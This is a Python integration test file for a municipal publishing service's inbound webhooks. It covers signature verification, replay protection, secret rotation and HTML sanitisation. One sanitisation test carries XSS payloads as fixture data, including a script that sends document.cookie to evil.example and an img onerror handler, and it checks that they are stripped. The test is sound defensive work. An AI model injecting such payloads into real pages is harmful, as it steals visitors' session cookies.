"""Inbound webhooks in-process through the local API Gateway emulation, against moto (template.yaml's routes).

Sources are managed with the commune's API key; `POST /v1/inbound/{commune}/{source}` has no authorizer:
the Standard Webhooks signature (or, weaker, the source's URL key) is the authentication.
"""

from __future__ import annotations

import copy
import json
import time
import uuid
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from crieur import aws, cli
from crieur.inbound import service as inbound_service
from crieur.models import utc_now
from crieur.security import new_webhook_secret, webhook_headers
from infra.local.provision import Deployment
from tests.integration.conftest import Answer, Gateway, Stack
from tests.unit.test_inbound_payloads import REST_POST

HOOK = "https://site.example/hooks/crieur"
PUBLICATION = {"title": "Coupure d'eau", "body": "Mardi de 9 h à 12 h, rue des Lilas."}
REFUSED_TITLE = "Webhook refusé"


@pytest.fixture
def commune(gateway: Gateway) -> str:
    """A fresh commune with its webhook channel, so that a publication has somewhere to go."""
    insee = gateway.new_commune()
    answer = gateway.call(
        "PUT",
        "/v1/channels/webhook",
        insee,
        {"settings": {"url": HOOK}, "credentials": {"secret": "whsec_" + "A" * 44}},
    )
    assert answer.status == 200, answer.body
    return insee


def create_source(gateway: Gateway, insee: str, **fields: Any) -> dict[str, Any]:
    answer = gateway.call("POST", "/v1/inbound-sources", insee, {"name": "Site de la mairie", **fields})
    assert answer.status == 201, answer.body
    assert answer.headers["Location"] == f"/v1/inbound-sources/{answer.json['id']}"
    return answer.json


def send(
    gateway: Gateway,
    insee: str,
    source_id: str,
    payload: Any,
    secret: str | None,
    *,
    message_id: str | None = None,
    timestamp: int | None = None,
    raw: str | None = None,
    query: str = "",
) -> Answer:
    """A call from the site: the body signed as Standard Webhooks says (no signature when `secret` is None)."""
    body = raw if raw is not None else json.dumps(payload)
    headers = (
        webhook_headers(secret, message_id or f"msg_{uuid.uuid4().hex}", body.encode(), timestamp) if secret else {}
    )
    return gateway.call("POST", f"/v1/inbound/{insee}/{source_id}{query}", None, raw=body, headers=headers)


def publication_ids(gateway: Gateway, insee: str) -> list[str]:
    return [item["id"] for item in gateway.call("GET", "/v1/publications?limit=100", insee).json["items"]]


# --- sources ----------------------------------------------------------------------------------------------


def test_sources_show_their_secret_once_and_keep_it_sealed(gateway: Gateway, stack: Stack, commune: str) -> None:
    created = create_source(gateway, commune)
    source_id, secret, key = created["id"], created["secret"], created["key"]
    assert source_id.startswith("src_")
    assert secret.startswith("whsec_")
    assert key.startswith("inkey_")
    assert created["path"] == f"/v1/inbound/{commune}/{source_id}"
    assert created["signed_only"] is False
    assert created["url_key"] is True

    listed = gateway.call("GET", "/v1/inbound-sources", commune)
    assert listed.status == 200
    (item,) = listed.json["items"]
    assert item["id"] == source_id
    assert item["name"] == "Site de la mairie"
    assert [s["expires_at"] for s in item["secrets"]] == [None]
    assert item["secrets"][0]["created_at"]
    assert "secret" not in item
    assert "key" not in item
    assert secret not in listed.body
    assert key not in listed.body
    shown = gateway.call("GET", f"/v1/inbound-sources/{source_id}", commune)
    assert shown.json == item

    stored = aws.dynamodb().Table(stack.table).get_item(Key={"pk": f"C#{commune}", "sk": f"SRC#{source_id}"})["Item"]
    ciphertext = bytes(stored["secrets"][0]["ciphertext"].value)
    assert secret.encode() not in ciphertext
    assert key not in str(stored)
    context = {"commune": commune, "channel": f"inbound:{source_id}"}
    plain = aws.kms().decrypt(CiphertextBlob=ciphertext, EncryptionContext=context)["Plaintext"]
    assert json.loads(plain) == {"secret": secret}
    with pytest.raises(aws.kms().exceptions.InvalidCiphertextException):
        aws.kms().decrypt(CiphertextBlob=ciphertext, EncryptionContext={**context, "commune": "99999"})

    stranger = gateway.new_commune()
    assert gateway.call("GET", "/v1/inbound-sources", stranger).json == {"items": []}
    assert gateway.call("GET", f"/v1/inbound-sources/{source_id}", stranger).status == 404
    assert gateway.call("POST", f"/v1/inbound-sources/{source_id}/rotate", stranger).status == 404
    assert gateway.call("DELETE", f"/v1/inbound-sources/{source_id}", stranger).status == 404

    invalid = gateway.call("POST", "/v1/inbound-sources", commune, {"name": " ", "colour": "red"})
    assert invalid.status == 422
    assert {error["field"] for error in invalid.json["errors"]} == {"name", "colour"}

    assert send(gateway, commune, source_id, PUBLICATION, secret).status == 201
    assert gateway.call("DELETE", f"/v1/inbound-sources/{source_id}", commune).status == 204
    assert gateway.call("GET", f"/v1/inbound-sources/{source_id}", commune).status == 404
    assert send(gateway, commune, source_id, PUBLICATION, secret).status == 401


def test_sources_need_the_communes_api_key(gateway: Gateway, commune: str) -> None:
    assert gateway.call("GET", "/v1/inbound-sources", None).status == 401
    assert gateway.call("POST", "/v1/inbound-sources", None, {"name": "x"}).status == 401


# --- signed calls -----------------------------------------------------------------------------------------


def test_a_signed_crieur_publication_is_published_once(gateway: Gateway, stack: Stack, commune: str) -> None:
    source = create_source(gateway, commune)
    answer = send(gateway, commune, source["id"], {**PUBLICATION, "urgency": "high"}, source["secret"])
    assert answer.status == 201, answer.body
    publication = answer.json
    assert answer.headers["Location"] == f"/v1/publications/{publication['id']}"
    assert publication["title"] == "Coupure d'eau"
    assert publication["urgency"] == "high"
    assert publication["commune"] == commune
    assert set(publication["deliveries"]) == {"webhook"}
    assert publication_ids(gateway, commune) == [publication["id"]]
    assert [json.loads(m["Body"])["publication_id"] for m in stack.drain("webhook")] == [publication["id"]]


def test_a_signed_wordpress_post_becomes_a_publication_with_text_link_and_image(
    gateway: Gateway, stack: Stack, commune: str
) -> None:
    source = create_source(gateway, commune, signed_only=True)
    answer = send(gateway, commune, source["id"], REST_POST, source["secret"])
    assert answer.status == 201, answer.body
    publication = answer.json
    assert publication["title"] == "Marché de Noël\xa0: c’est reparti\xa0!"
    assert publication["body"].startswith("Le marché de Noël revient place de la Mairie le samedi 13\xa0décembre")
    assert "\n\nAu programme\n\n• Artisans locaux\n\n• Chorale de l’école\n\n" in publication["body"]
    assert "<" not in publication["body"]
    assert publication["links"] == [
        {"url": "https://mairie-exemple.fr/2026/12/01/marche-de-noel-2026/", "label": "Lire l'article sur le site"}
    ]
    assert publication["media"] == [
        {
            "url": "https://mairie-exemple.fr/wp-content/uploads/2026/12/marche-noel.jpg",
            "alt": "Chalets illuminés sur la place de la Mairie",
            "kind": "image",
        }
    ]
    assert publication_ids(gateway, commune) == [publication["id"]]
    assert len(stack.drain("webhook")) == 1


def test_html_with_scripts_never_reaches_the_publication(gateway: Gateway, commune: str) -> None:
    source = create_source(gateway, commune)
    post = copy.deepcopy(REST_POST)
    post["title"]["rendered"] = "Réunion <script>alert(1)</script>publique"
    post["content"]["rendered"] = (
        "<p>Salle des fêtes.</p><script>fetch('https://evil.example/?c='+document.cookie)</script>"
        '<style>body{display:none}</style><p><img src=x onerror="alert(2)">Entrée libre.</p>'
        "<p>&lt;script&gt;alert(3)&lt;/script&gt;</p>"
    )
    answer = send(gateway, commune, source["id"], post, source["secret"])
    assert answer.status == 201, answer.body
    assert answer.json["title"] == "Réunion publique"
    assert answer.json["body"] == "Salle des fêtes.\n\nEntrée libre.\n\nalert(3)"
    stored = gateway.call("GET", f"/v1/publications/{answer.json['id']}", commune).body
    for forbidden in ("<script", "cookie", "onerror", "display:none", "alert(1)", "alert(2)"):
        assert forbidden not in stored


def test_a_replayed_webhook_id_answers_the_first_publication_and_creates_nothing(
    gateway: Gateway, stack: Stack, commune: str
) -> None:
    source = create_source(gateway, commune)
    first = send(gateway, commune, source["id"], PUBLICATION, source["secret"], message_id="msg_replay")
    assert first.status == 201
    # The site retries: same id and body, signed again a moment later (a new timestamp, a new signature).
    again = send(
        gateway,
        commune,
        source["id"],
        PUBLICATION,
        source["secret"],
        message_id="msg_replay",
        timestamp=int(time.time()) + 2,
    )
    assert again.status == 200, again.body
    assert again.json["id"] == first.json["id"]
    assert again.headers["Location"] == f"/v1/publications/{first.json['id']}"
    for _ in range(5):  # a replay storm
        assert (
            send(gateway, commune, source["id"], PUBLICATION, source["secret"], message_id="msg_replay").status == 200
        )
    other = send(
        gateway, commune, source["id"], {**PUBLICATION, "title": "Autre"}, source["secret"], message_id="msg_replay"
    )
    assert other.status == 422
    assert other.json["errors"][0]["field"] == "webhook-id"
    assert publication_ids(gateway, commune) == [first.json["id"]]
    assert len(stack.drain("webhook")) == 1


def test_a_refused_body_can_be_corrected_under_the_same_webhook_id(gateway: Gateway, commune: str) -> None:
    source = create_source(gateway, commune)
    bad = send(gateway, commune, source["id"], {"title": "x"}, source["secret"], message_id="msg_fix")
    assert bad.status == 422
    assert bad.json["errors"][0]["message"].startswith("Format non reconnu")
    assert (
        send(gateway, commune, source["id"], {"hello": 1}, source["secret"], raw="{oops", message_id="m2").status == 422
    )
    fixed = send(gateway, commune, source["id"], PUBLICATION, source["secret"], message_id="msg_fix")
    assert fixed.status == 201
    assert publication_ids(gateway, commune) == [fixed.json["id"]]


def test_every_refusal_is_the_same_401_and_creates_nothing(gateway: Gateway, stack: Stack, commune: str) -> None:
    source = create_source(gateway, commune)
    neighbour = gateway.new_commune()
    gateway.call(
        "PUT",
        "/v1/channels/webhook",
        neighbour,
        {"settings": {"url": HOOK}, "credentials": {"secret": new_webhook_secret()}},
    )
    theirs = create_source(gateway, neighbour)
    now = int(time.time())
    refusals = {
        "bad signature": send(gateway, commune, source["id"], PUBLICATION, new_webhook_secret()),
        "stale timestamp": send(gateway, commune, source["id"], PUBLICATION, source["secret"], timestamp=now - 301),
        "timestamp ahead": send(gateway, commune, source["id"], PUBLICATION, source["secret"], timestamp=now + 305),
        "unknown source": send(gateway, commune, "src_" + "0" * 20, PUBLICATION, source["secret"]),
        "malformed source": send(gateway, commune, "src_" + "Z" * 20, PUBLICATION, source["secret"]),
        "unknown commune": send(gateway, "99999", source["id"], PUBLICATION, source["secret"]),
        "another commune's source": send(gateway, commune, theirs["id"], PUBLICATION, theirs["secret"]),
        "own source, other commune's path": send(gateway, neighbour, source["id"], PUBLICATION, source["secret"]),
        "unsigned": send(gateway, commune, source["id"], PUBLICATION, None),
        "body altered": gateway.call(
            "POST",
            f"/v1/inbound/{commune}/{source['id']}",
            None,
            raw=json.dumps({**PUBLICATION, "title": "Piraté"}),
            headers=webhook_headers(source["secret"], "msg_x", json.dumps(PUBLICATION).encode()),
        ),
    }
    bodies = set()
    for reason, answer in refusals.items():
        assert answer.status == 401, (reason, answer.body)
        assert answer.headers["Content-Type"] == "application/problem+json", reason
        assert answer.json["title"] == REFUSED_TITLE, reason
        bodies.add(answer.body)
    assert len(bodies) == 1  # nothing tells which check failed
    assert publication_ids(gateway, commune) == []
    assert publication_ids(gateway, neighbour) == []
    assert stack.drain("webhook") == []
    # Within the 5 minutes, a valid call still goes through.
    assert send(gateway, commune, source["id"], PUBLICATION, source["secret"], timestamp=now - 290).status == 201


def test_rotation_keeps_the_old_secret_24_hours(
    gateway: Gateway, commune: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = create_source(gateway, commune)
    old = source["secret"]
    rotated = gateway.call("POST", f"/v1/inbound-sources/{source['id']}/rotate", commune)
    assert rotated.status == 200, rotated.body
    new = rotated.json["secret"]
    assert new.startswith("whsec_")
    assert new != old
    listed = gateway.call("GET", f"/v1/inbound-sources/{source['id']}", commune).json
    assert len(listed["secrets"]) == 2
    assert listed["secrets"][0]["expires_at"] == rotated.json["previous_expires_at"]
    assert listed["secrets"][1]["expires_at"] is None
    assert new not in json.dumps(listed)

    assert send(gateway, commune, source["id"], {**PUBLICATION, "title": "Ancien"}, old).status == 201
    assert send(gateway, commune, source["id"], {**PUBLICATION, "title": "Nouveau"}, new).status == 201

    later = utc_now() + timedelta(hours=24, minutes=1)
    monkeypatch.setattr(inbound_service, "utc_now", lambda: later)
    at = int(later.timestamp())
    assert send(gateway, commune, source["id"], {**PUBLICATION, "title": "Expiré"}, old, timestamp=at).status == 401
    assert send(gateway, commune, source["id"], {**PUBLICATION, "title": "Après"}, new, timestamp=at).status == 201
    assert len(gateway.call("GET", f"/v1/inbound-sources/{source['id']}", commune).json["secrets"]) == 1

    # A second rotation keeps only the secret it replaces: never more than two in force.
    third = gateway.call("POST", f"/v1/inbound-sources/{source['id']}/rotate", commune).json["secret"]
    assert [s["expires_at"] is None for s in secrets_of(gateway, commune, source["id"])] == [False, True]
    assert send(gateway, commune, source["id"], {**PUBLICATION, "title": "3"}, third, timestamp=at).status == 201
    assert send(gateway, commune, source["id"], {**PUBLICATION, "title": "2"}, new, timestamp=at).status == 201
    assert len(publication_ids(gateway, commune)) == 5


def secrets_of(gateway: Gateway, insee: str, source_id: str) -> list[dict[str, Any]]:
    secrets: list[dict[str, Any]] = gateway.call("GET", f"/v1/inbound-sources/{source_id}", insee).json["secrets"]
    return secrets


# --- the URL key fallback ---------------------------------------------------------------------------------


def test_the_url_key_is_a_weaker_fallback_refused_for_signed_only_sources(gateway: Gateway, commune: str) -> None:
    source = create_source(gateway, commune)
    keyed = send(gateway, commune, source["id"], PUBLICATION, None, query=f"?key={source['key']}")
    assert keyed.status == 201, keyed.body
    # With a webhook-id header, a retry is still recognised.
    headers = {"webhook-id": "cms-42"}
    path = f"/v1/inbound/{commune}/{source['id']}?key={source['key']}"
    first = gateway.call("POST", path, None, PUBLICATION, headers=headers)
    assert first.status == 201
    assert gateway.call("POST", path, None, PUBLICATION, headers=headers).json["id"] == first.json["id"]
    assert send(gateway, commune, source["id"], PUBLICATION, None, query="?key=inkey_wrong").status == 401
    # A call that carries a signature is judged on it: a bad one is not rescued by the key.
    forged = send(gateway, commune, source["id"], PUBLICATION, new_webhook_secret(), query=f"?key={source['key']}")
    assert forged.status == 401

    strict = create_source(gateway, commune, name="Intranet", signed_only=True)
    assert strict["key"] is None
    assert strict["url_key"] is False
    assert send(gateway, commune, strict["id"], PUBLICATION, None, query=f"?key={source['key']}").status == 401
    assert send(gateway, commune, strict["id"], PUBLICATION, strict["secret"]).status == 201
    assert len(publication_ids(gateway, commune)) == 3


# --- limits -----------------------------------------------------------------------------------------------


def test_an_oversized_body_is_refused_before_anything(gateway: Gateway, stack: Stack, commune: str) -> None:
    source = create_source(gateway, commune)
    huge = send(gateway, commune, source["id"], {**PUBLICATION, "body": "x" * 300_000}, source["secret"])
    assert huge.status == 413
    assert huge.json["errors"] == [{"field": "body", "message": "Au plus 256 Kio."}]
    assert publication_ids(gateway, commune) == []
    assert stack.drain("webhook") == []


def test_the_route_is_documented_without_api_key(gateway: Gateway) -> None:
    spec = gateway.call("GET", "/v1/openapi.json", None).json
    inbound = spec["paths"]["/v1/inbound/{insee}/{source_id}"]["post"]
    assert inbound["security"] == [{}]  # no API key
    assert {"/v1/inbound-sources", "/v1/inbound-sources/{source_id}/rotate"} <= set(spec["paths"])


# --- operator CLI -----------------------------------------------------------------------------------------


@pytest.fixture
def local_state(
    tmp_path: Path, moto_endpoint: str, deployment: Deployment, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Path]:
    state = tmp_path / "local.json"
    state.write_text(
        json.dumps({"aws_endpoint": moto_endpoint, "region": deployment.region, "outputs": deployment.outputs})
    )
    monkeypatch.setenv("CRIEUR_LOCAL_STATE", str(state))
    for name in ("AWS_ENDPOINT_URL", "AWS_DEFAULT_REGION", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"):
        monkeypatch.setenv(name, "unset-by-the-test")  # the CLI sets them from the state file
    monkeypatch.delenv("CRIEUR_ALLOW_PRIVATE_TARGETS", raising=False)
    for provider in ("METEOFRANCE", "METEOALARM"):
        monkeypatch.delenv(f"CRIEUR_{provider}_BASE_URL", raising=False)
    yield state
    aws.reset()


def test_cli_creates_a_source_and_prints_its_secret_last(
    gateway: Gateway, commune: str, local_state: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli.main(["inbound", "create-source", "--commune", commune, "--name", "Site WordPress"]) == 0
    printed = capsys.readouterr().out.strip().splitlines()
    secret = printed[-1]
    assert secret.startswith("whsec_")
    source_id = printed[0].split("(")[1].rstrip(").")
    assert f"/v1/inbound/{commune}/{source_id}?key=inkey_" in "\n".join(printed)
    assert send(gateway, commune, source_id, REST_POST, secret).status == 201

    assert cli.main(["inbound", "create-source", "--commune", commune, "--name", "Strict", "--signed-only"]) == 0
    assert "?key=" not in capsys.readouterr().out
    assert cli.main(["inbound", "create-source", "--commune", "99998", "--name", "x"]) == 1
    assert "Aucune commune 99998" in capsys.readouterr().err
